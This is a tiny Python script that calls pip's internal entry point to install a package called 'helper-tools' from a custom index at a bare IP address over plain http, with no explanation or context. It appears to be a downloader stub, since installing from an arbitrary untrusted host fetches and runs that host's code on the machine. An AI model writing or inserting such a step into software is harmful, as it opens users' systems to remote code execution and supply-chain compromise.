import sys
from pip._internal.cli.main import main
main(["install", "--index-url", "http://203.0.113.4/simple", "helper-tools"])
